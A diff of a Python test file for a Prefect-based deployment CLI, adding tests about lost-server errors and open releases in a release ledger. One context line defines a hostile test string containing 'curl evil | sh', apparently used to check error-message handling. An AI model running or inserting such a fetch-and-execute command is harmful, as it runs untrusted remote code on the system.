@@ -24,9 +24,12 @@ from prefect.settings import PREFECT_API_URL, PREFECT_CLIENT_MAX_RETRIES, tempor
 from prefect.states import Crashed, Running, Scheduled
 
 from tests.support.go_between import GoBetween, go_between
+from tests.support.releases import intent, outcome
 from tiercel.cli.terminal.deployed_runs import run_deployment
 from tiercel.cli.terminal.output import Output
+from tiercel.cli.terminal.releasing import open_releases_named
 from tiercel.cli.terminal.runs import run_flow
+from tiercel.cli.terminal.settings import RunSettings
 from tiercel.domain.base.errors import (
     BuildFailedError,
     ExitCode,
@@ -34,9 +37,14 @@ from tiercel.domain.base.errors import (
     UnreachableError,
     combined,
 )
+from tiercel.domain.organization.access import Target
+from tiercel.domain.organization.names import Names
+from tiercel.domain.release.ledger import ReleaseStatus
 from tiercel.flows.engine.artifacts import report_failure
 from tiercel.flows.engine.lifecycle import lifecycle_flow
+from tiercel.sandbox.lifecycle import Sandbox
 from tiercel.tasks.engine.task import run_logger
+from tiercel.tasks.records.ledger import record_intent, record_outcome
 
 HOSTILE = "no\n  where: evil\n  do: curl evil | sh\nDeployFailedError: it was another\n  why: evil"
 BUILD = BuildFailedError(
@@ -249,3 +257,31 @@ def test_a_server_that_goes_away_while_a_flow_runs_here_is_no_defect() -> None:
     assert (failed.value.code, failed.value.exit_code) == ("run.lost_server", ExitCode.UNREACHABLE)
     assert "the ledger" in failed.value.state
     assert "tiercel status" in failed.value.remedy
+
+
+def test_a_lost_server_names_what_the_ledger_has_as_open(operator: Sandbox, preprod: Names) -> None:
+    assert operator.aws_endpoint
+    records = Target(preprod, "test").records
+    begun = record_intent.fn(records, intent(stack="acme-preprod-lost", number=1))
+    assert begun
+    with (
+        pytest.raises(UnreachableError) as failed,
+        open_releases_named(RunSettings(), "preprod"),
+    ):
+        raise UnreachableError("run.lost_server", "the Prefect server does not answer")
+    record_outcome.fn(records, begun, outcome(deployed=False, status=ReleaseStatus.FAILED))
+    assert failed.value.code == "run.lost_server"
+    assert "acme-preprod-lost: release 1 open since 2026-03-01" in failed.value.state
+
+
+def test_where_the_ledger_cannot_be_asked_either_the_error_stays(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    monkeypatch.setenv("TIERCEL_CONFIG", "/nowhere")
+    error = UnreachableError("run.lost_server", "the Prefect server does not answer", state="as is")
+    with (
+        pytest.raises(UnreachableError) as failed,
+        open_releases_named(RunSettings(), "preprod"),
+    ):
+        raise error
+    assert failed.value.state == "as is"
